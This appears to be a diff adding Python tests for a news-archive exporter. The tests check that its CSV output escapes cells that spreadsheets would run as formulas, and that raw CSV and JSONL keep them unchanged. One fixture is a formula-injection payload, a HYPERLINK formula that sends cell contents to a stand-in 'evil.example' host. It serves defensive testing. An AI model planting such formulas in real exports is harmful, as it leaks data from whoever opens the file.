@@ -178,3 +178,29 @@ def test_sqlite_jsonl_lines_are_the_bytes_json_dumps_gives(sqlite_url):
     fast, general = both()
     assert len(fast) == 6 and fast == general
     assert json.loads(fast[-1])["body"] == "制表符\t与\x01控制字符\u2028分隔。"
+
+
+FORMULAS = {"title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "source": "=1+2南通日报",
+            "subtitle": "+86 025 1234", "pretitle": "-2+3", "original_title": "@SUM(1,2)", "body": "\t制表符开头的正文。"}
+
+
+def test_csv_cells_that_spreadsheets_would_run_as_formulas_start_with_a_quote(archive, tmp_path):
+    store(archive, [make_article("http://js.people.com.cn/n2/2024/0301/c1-9.html", **FORMULAS)])
+    _, out = _export(archive, tmp_path, "csv")
+    with out.open(encoding="utf-8-sig", newline="") as handle:
+        row = next(r for r in csv.DictReader(handle) if r["canonical_url"].endswith("c1-9.html"))
+    assert {name: row[name] for name in FORMULAS} == {name: "'" + value for name, value in FORMULAS.items()}
+    assert row["id"].isdigit() and row["published_at"][0].isdigit()  # numbers and dates untouched
+
+
+def test_raw_csv_and_jsonl_keep_formula_cells_as_stored(archive, tmp_path):
+    store(archive, [make_article("http://js.people.com.cn/n2/2024/0301/c1-9.html", **FORMULAS)])
+    raw = ExportFormat(suffix=".csv", open=lambda stream, session: FORMATS["csv"].open(stream, session, raw=True))
+    out = tmp_path / "raw.csv"
+    run_export(archive, raw, Filters(), prepare_output(out, raw, True), None)
+    with out.open(encoding="utf-8-sig", newline="") as handle:
+        row = next(r for r in csv.DictReader(handle) if r["canonical_url"].endswith("c1-9.html"))
+    assert {name: row[name] for name in FORMULAS} == FORMULAS
+    _, jsonl = _export(archive, tmp_path, "jsonl")
+    record = next(r for r in _jsonl(jsonl) if r["canonical_url"].endswith("c1-9.html"))
+    assert {name: record[name] for name in FORMULAS} == FORMULAS
